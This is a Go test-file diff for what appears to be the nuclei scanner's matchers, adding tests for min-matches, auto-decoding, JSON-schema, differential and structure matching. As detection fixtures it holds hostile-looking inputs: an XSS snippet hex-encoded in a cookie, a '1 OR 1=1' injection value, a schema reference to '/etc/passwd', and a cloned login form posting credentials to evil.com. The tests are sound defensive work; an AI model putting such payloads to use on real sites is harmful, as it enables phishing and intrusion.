@@ -1,10 +1,12 @@
 package matchers
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/Knetic/govaluate"
 	"github.com/projectdiscovery/nuclei/v2/pkg/operators/common/dsl"
+	"github.com/projectdiscovery/nuclei/v2/pkg/operators/common/structure"
 	"github.com/stretchr/testify/require"
 )
 
@@ -64,6 +66,31 @@ func TestRegexOrCondition(t *testing.T) {
 	require.Equal(t, []string{}, matched)
 }
 
+func TestMinMatches(t *testing.T) {
+	m := &Matcher{Type: MatcherTypeHolder{MatcherType: WordsMatcher}, Condition: "and", Words: []string{"a", "b", "c"}, MinMatches: 2}
+	err := m.CompileMatchers()
+	require.Nil(t, err)
+
+	isMatched, matched := m.MatchWords("a c", nil)
+	require.True(t, isMatched, "Could not match words with min matches")
+	require.Equal(t, []string{"a", "c"}, matched)
+
+	isMatched, matched = m.MatchWords("b", nil)
+	require.False(t, isMatched, "Could match words below min matches")
+	require.Equal(t, []string{}, matched)
+
+	m = &Matcher{Type: MatcherTypeHolder{MatcherType: RegexMatcher}, Regex: []string{"[a-z]{3}", "\\d{2}", "[A-Z]+"}, MinMatches: 2}
+	err = m.CompileMatchers()
+	require.Nil(t, err)
+
+	isMatched, matched = m.MatchRegex("abc 123")
+	require.True(t, isMatched, "Could not match regex with min matches")
+	require.Equal(t, []string{"abc", "12"}, matched)
+
+	m = &Matcher{Type: MatcherTypeHolder{MatcherType: WordsMatcher}, Words: []string{"a"}, MinMatches: 2}
+	require.NotNil(t, m.CompileMatchers(), "Could compile min matches above number of words")
+}
+
 func TestHexEncoding(t *testing.T) {
 	m := &Matcher{Encoding: "hex", Type: MatcherTypeHolder{MatcherType: WordsMatcher}, Part: "body", Words: []string{"50494e47"}}
 	err := m.CompileMatchers()
@@ -74,6 +101,29 @@ func TestHexEncoding(t *testing.T) {
 	require.Equal(t, m.Words, matched)
 }
 
+func TestAutoDecode(t *testing.T) {
+	corpus := "Set-Cookie: session=YWRtaW46czNjcjN0LXBhc3N3b3Jk; debug=3c7363726970743e616c6572742831293c2f7363726970743e"
+
+	m := &Matcher{Type: MatcherTypeHolder{MatcherType: WordsMatcher}, Words: []string{"ADMIN:", "<script>"}, Condition: "and", CaseInsensitive: true, AutoDecode: true}
+	err := m.CompileMatchers()
+	require.Nil(t, err, "could not compile matcher")
+
+	isMatched, _ := m.MatchWords(corpus, nil)
+	require.True(t, isMatched, "could not match words in decoded data")
+
+	m = &Matcher{Type: MatcherTypeHolder{MatcherType: RegexMatcher}, Regex: []string{`admin:\S+`}, AutoDecode: true}
+	err = m.CompileMatchers()
+	require.Nil(t, err, "could not compile matcher")
+
+	isMatched, matched := m.MatchRegex(corpus)
+	require.True(t, isMatched, "could not match regex in decoded data")
+	require.Equal(t, []string{"admin:s3cr3t-password"}, matched)
+
+	m.AutoDecode = false
+	isMatched, _ = m.MatchRegex(corpus)
+	require.False(t, isMatched, "could match regex in decoded data without auto-decode")
+}
+
 func TestMatcher_MatchDSL(t *testing.T) {
 	compiled, err := govaluate.NewEvaluableExpressionWithFunctions("contains(body, \"{{VARIABLE}}\")", dsl.HelperFunctions)
 	require.Nil(t, err, "couldn't compile expression")
@@ -89,3 +139,137 @@ func TestMatcher_MatchDSL(t *testing.T) {
 		require.True(t, isMatched)
 	}
 }
+
+func TestMatchJSONSchema(t *testing.T) {
+	schema := `{"type": "object", "required": ["id", "email"], "properties": {"id": {"type": "integer"}, "email": {"type": "string"}}}`
+
+	m := &Matcher{Type: MatcherTypeHolder{MatcherType: JSONSchemaMatcher}, Schema: schema}
+	err := m.CompileMatchers()
+	require.Nil(t, err, "could not compile json schema matcher")
+
+	isMatched, matched := m.MatchJSONSchema(`{"id": 1, "email": "admin@example.com"}`)
+	require.True(t, isMatched, "could not match valid json")
+	require.Empty(t, matched)
+
+	isMatched, _ = m.MatchJSONSchema(`{"id": "1 OR 1=1", "email": "admin@example.com"}`)
+	require.False(t, isMatched, "could match invalid json")
+
+	m = &Matcher{Type: MatcherTypeHolder{MatcherType: JSONSchemaMatcher}, Schema: schema, Invalid: true}
+	err = m.CompileMatchers()
+	require.Nil(t, err, "could not compile invalid json schema matcher")
+
+	isMatched, matched = m.MatchJSONSchema(`{"id": "1 OR 1=1"}`)
+	require.True(t, isMatched, "could not match invalid json")
+	require.ElementsMatch(t, []string{"/: missing properties: 'email'", "/id: expected integer, but got string"}, matched, "could not get validation errors")
+
+	isMatched, matched = m.MatchJSONSchema(`<html>`)
+	require.True(t, isMatched, "could not match non json body")
+	require.Len(t, matched, 1)
+	require.Contains(t, matched[0], "invalid json")
+
+	isMatched, _ = m.MatchJSONSchema(`{"id": 1, "email": "admin@example.com"}`)
+	require.False(t, isMatched, "could match valid json with invalid flag")
+}
+
+func TestCompileJSONSchemaErrors(t *testing.T) {
+	m := &Matcher{Type: MatcherTypeHolder{MatcherType: JSONSchemaMatcher}, Schema: `{"type": 1}`}
+	require.NotNil(t, m.CompileMatchers(), "could compile invalid json schema")
+
+	m = &Matcher{Type: MatcherTypeHolder{MatcherType: JSONSchemaMatcher}, Schema: `{"$ref": "file:///etc/passwd"}`}
+	require.NotNil(t, m.CompileMatchers(), "could compile json schema with external reference")
+
+	m = &Matcher{Type: MatcherTypeHolder{MatcherType: JSONSchemaMatcher}}
+	require.NotNil(t, m.CompileMatchers(), "could compile json schema matcher without schema")
+}
+
+func TestMatchDifferential(t *testing.T) {
+	baseline := "<html><body><h1>Products</h1><p>Red shirt</p><p>Blue shirt</p><p>Green shirt</p></body></html>"
+	unchanged := "<html><body><h1>Products</h1><p>Red shirt</p><p>Blue shirt</p><p>Green shirt</p></body></html>"
+	changed := "<html><body><h1>Products</h1><p>No products found</p></body></html>"
+
+	m := &Matcher{Type: MatcherTypeHolder{MatcherType: DifferentialMatcher}, Part: "body_2", Baseline: "body_1", MaxSimilarity: 0.8}
+	err := m.CompileMatchers()
+	require.Nil(t, err, "could not compile differential matcher")
+
+	isMatched, matched := m.MatchDifferential(unchanged, baseline)
+	require.False(t, isMatched, "could match identical content")
+	require.Empty(t, matched)
+
+	isMatched, matched = m.MatchDifferential(changed, baseline)
+	require.True(t, isMatched, "could not match different content")
+	require.Equal(t, []string{"body_2/body_1 similarity:0.58 length-delta:-27"}, matched, "could not get delta")
+
+	m = &Matcher{Type: MatcherTypeHolder{MatcherType: DifferentialMatcher}, Baseline: "body_1", MaxSimilarity: 0.8, MinLengthDelta: 50, Condition: "and"}
+	err = m.CompileMatchers()
+	require.Nil(t, err, "could not compile differential matcher")
+
+	isMatched, _ = m.MatchDifferential(changed, baseline)
+	require.False(t, isMatched, "could match with a length delta below the minimum")
+
+	isMatched, _ = m.MatchDifferential(changed+strings.Repeat(" ", 100), baseline)
+	require.True(t, isMatched, "could not match with both conditions")
+}
+
+func TestMatchStructure(t *testing.T) {
+	login := `<html><body><form action="/login"><input name="user"><input type="password" name="pass"><button>Sign in</button></form></body></html>`
+	clone := `<html><body><form action="https://evil.com/"><input name="u"><input type="password" name="p"><button>Login</button></form></body></html>`
+	other := `<html><body><h1>Blog</h1><ul><li><a href="/1">Post</a></li><li><a href="/2">Post</a></li></ul></body></html>`
+
+	fingerprint := structure.New(login).String()
+	m := &Matcher{Type: MatcherTypeHolder{MatcherType: StructureMatcher}, Fingerprints: []string{structure.New(other).String(), fingerprint}}
+	err := m.CompileMatchers()
+	require.Nil(t, err, "could not compile structure matcher")
+	require.Equal(t, 0.8, m.MinSimilarity, "wrong default similarity")
+
+	isMatched, matched := m.MatchStructure(clone)
+	require.True(t, isMatched, "could not match cloned structure")
+	require.Equal(t, []string{"body/fingerprint-2 similarity:1.00"}, matched, "could not get similarity")
+
+	m = &Matcher{Type: MatcherTypeHolder{MatcherType: StructureMatcher}, Fingerprints: []string{fingerprint}, MinSimilarity: 0.5}
+	err = m.CompileMatchers()
+	require.Nil(t, err, "could not compile structure matcher")
+
+	isMatched, matched = m.MatchStructure(other)
+	require.False(t, isMatched, "could match different structure")
+	require.Empty(t, matched)
+
+	m = &Matcher{Type: MatcherTypeHolder{MatcherType: StructureMatcher}, Fingerprints: []string{fingerprint, structure.New(other).String()}, Condition: "and"}
+	err = m.CompileMatchers()
+	require.Nil(t, err, "could not compile structure matcher")
+
+	isMatched, _ = m.MatchStructure(clone)
+	require.False(t, isMatched, "could match structure similar to a single fingerprint with and condition")
+}
+
+func TestCompileStructureErrors(t *testing.T) {
+	m := &Matcher{Type: MatcherTypeHolder{MatcherType: StructureMatcher}}
+	require.NotNil(t, m.CompileMatchers(), "could compile structure matcher without fingerprints")
+
+	m = &Matcher{Type: MatcherTypeHolder{MatcherType: StructureMatcher}, Fingerprints: []string{"1a7b"}}
+	require.NotNil(t, m.CompileMatchers(), "could compile structure matcher with invalid fingerprint")
+
+	m = &Matcher{Type: MatcherTypeHolder{MatcherType: StructureMatcher}, Fingerprints: []string{structure.New("<p>").String()}, MinSimilarity: 1.5}
+	require.NotNil(t, m.CompileMatchers(), "could compile structure matcher with invalid similarity")
+}
+
+func TestSimilarity(t *testing.T) {
+	require.Equal(t, 1.0, Similarity("", ""), "empty contents are not identical")
+	require.Equal(t, 0.0, Similarity("admin", ""), "empty content is similar")
+	require.Equal(t, 1.0, Similarity("a, b!", "a  b"), "punctuation is not ignored")
+	require.Equal(t, 0.5, Similarity("a b c d", "a b e f"), "wrong similarity")
+	require.Equal(t, 0.5, Similarity("a a", "a b"), "repeated words counted more than once")
+}
+
+func TestCompileDifferentialErrors(t *testing.T) {
+	m := &Matcher{Type: MatcherTypeHolder{MatcherType: DifferentialMatcher}, MaxSimilarity: 0.9}
+	require.NotNil(t, m.CompileMatchers(), "could compile differential matcher without baseline")
+
+	m = &Matcher{Type: MatcherTypeHolder{MatcherType: DifferentialMatcher}, Baseline: "body_1"}
+	require.NotNil(t, m.CompileMatchers(), "could compile differential matcher without delta")
+
+	m = &Matcher{Type: MatcherTypeHolder{MatcherType: DifferentialMatcher}, Baseline: "body_1", MaxSimilarity: 1.5}
+	require.NotNil(t, m.CompileMatchers(), "could compile differential matcher with invalid similarity")
+
+	m = &Matcher{Type: MatcherTypeHolder{MatcherType: DifferentialMatcher}, Baseline: "body_1", MaxSimilarity: 0.9, Words: []string{"admin"}}
+	require.NotNil(t, m.CompileMatchers(), "could compile differential matcher with words")
+}